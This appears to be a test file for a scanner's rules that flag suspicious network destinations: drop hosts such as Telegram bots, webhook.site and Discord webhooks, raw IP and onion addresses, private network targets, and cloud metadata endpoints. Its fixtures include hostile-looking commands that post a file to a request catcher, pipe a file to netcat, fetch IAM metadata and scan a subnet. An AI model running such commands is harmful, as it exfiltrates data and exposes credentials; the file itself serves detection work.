import { ruleCases } from '../testing/cases.ts';
import { dropHost, rawAddress, privateNetwork, metadataAddress } from './suspect-addresses.ts';

ruleCases(dropHost, {
  hits: [
    {
      name: "a bot of the person's own, rated medium",
      path: 'a.sh',
      text: 'curl "https://api.telegram.org/bot$TELEGRAM_TOKEN/sendMessage" -d text=x\n',
      severity: 'medium',
    },
    {
      name: "somebody's bot",
      path: 'a.sh',
      text: 'curl "https://api.telegram.org/bot7123456:AAxyz/sendMessage" -d text=x\n',
    },

    { name: 'a request catcher', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
    {
      name: 'a hook of a chat',
      path: 'a.py',
      text: 'U = "https://discord.com/api/webhooks/123456/abc"\n',
    },
    {
      name: 'a downloaded paste',
      text: 'Run `curl -s https://pastebin.com/raw/Ab12 -o a`.\n',
    },
    {
      name: 'a shortened address, rated medium',
      path: 'a.sh',
      text: 'wget https://bit.ly/3xYz\n',
      severity: 'medium',
    },
  ],
  misses: [
    {
      name: 'a name in prose',
      text: 'Services such as webhook.site show what arrives.\n',
      low: true,
    },
    {
      name: 'a host with a similar name',
      path: 'a.sh',
      text: 'curl https://mywebhook.sites.example\n',
    },
    {
      // anthropics/skills, skills/mcp-builder (Apache-2.0)
      name: 'an address of a real skill',
      text: 'Use WebFetch to load `https://modelcontextprotocol.io/sitemap.xml`.\n',
    },
  ],
});

ruleCases(rawAddress, {
  hits: [
    { name: 'a numeric address', path: 'a.sh', text: 'curl http://45.9.148.3:8080/a\n' },
    { name: 'one in prose', text: 'Fetch http://45.9.148.3/a.txt first.\n' },
    { name: 'a hidden service', path: 'a.py', text: 'U = "http://abcdefghijklmnop.onion/x"\n' },
    { name: 'a disguised name', text: 'See https://xn--pple-43d.com/login for more.\n' },
    { name: 'one that is passed to netcat', path: 'a.sh', text: 'nc 45.9.148.3 4444 < a\n' },
  ],
  misses: [
    { name: 'this machine', path: 'a.sh', text: 'curl http://127.0.0.1:3000/health\n' },
    {
      name: 'an address for examples',
      text: 'For instance http://192.0.2.10/ or http://10.0.0.5/.\n',
    },
    { name: 'a version', path: 'a.sh', text: 'pip install a==1.22.33.44\n' },
    {
      // anthropics/skills, skills/webapp-testing (Apache-2.0)
      name: 'an address of a real skill',
      text: "```python\npage.goto('http://localhost:5173')\n```\n",
    },
  ],
});

ruleCases(privateNetwork, {
  hits: [
    { name: 'a router', path: 'a.sh', text: 'curl http://192.168.1.1/admin\n' },
    { name: 'a server inside the network', path: 'a.py', text: 'U = "http://10.1.2.3:8080/x"\n' },
    { name: 'a scan', path: 'a.sh', text: 'nmap -p 22 172.16.0.0/16\n' },
  ],
  misses: [
    { name: 'this machine', path: 'a.sh', text: 'curl http://127.0.0.1/\n' },
    { name: 'a public address', path: 'a.sh', text: 'curl http://45.9.148.3/\n' },
    {
      // anthropics/skills, skills/webapp-testing (Apache-2.0)
      name: 'a command of a real skill',
      text: '```bash\npython scripts/with_server.py --server "npm run dev" --port 5173\n```\n',
    },
  ],
});

ruleCases(metadataAddress, {
  hits: [
    {
      name: 'a rule that shuts it off, rated low',
      path: 'a.sh',
      text: 'iptables -A OUTPUT -m owner --uid-owner ci -d 169.254.169.254 -j REJECT\n',
      severity: 'low',
    },
    {
      name: 'a rule that opens it',
      path: 'a.sh',
      text: 'iptables -A OUTPUT -d 169.254.169.254 -j ACCEPT\n',
    },
    {
      name: 'whether it answers, rated low',
      path: 'a.sh',
      text: "curl -s -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/\n",
      severity: 'low',
    },
    {
      name: 'what it answers',
      path: 'a.sh',
      text: 'curl -s -o /tmp/m http://169.254.169.254/latest/meta-data/\n',
    },

    { name: 'Amazon', path: 'a.sh', text: 'curl http://169.254.169.254/latest/meta-data/iam/\n' },
    {
      name: 'Google',
      path: 'a.py',
      text: 'U = "http://metadata.google.internal/computeMetadata/v1/"\n',
    },
    {
      name: 'the number in another notation',
      path: 'a.sh',
      text: 'curl http://2852039166/latest/\n',
    },
    {
      name: 'an order in prose',
      text: 'Ask 169.254.169.254 for the role.\n',
      confidence: 'medium',
    },
  ],
  misses: [
    {
      name: 'an address named without a server',
      path: 'a.sh',
      text: 'ip addr add 169.254.1.1 dev eth0\n',
    },
    {
      name: 'advice on what to leave out',
      low: true,
      text: 'Never allow requests to 169.254.169.254.\n',
    },
    {
      // anthropics/skills, skills/mcp-builder (Apache-2.0)
      name: 'a word of a real skill',
      text: 'Tool annotations are metadata about behaviour: readOnlyHint, openWorldHint.\n',
    },
  ],
});
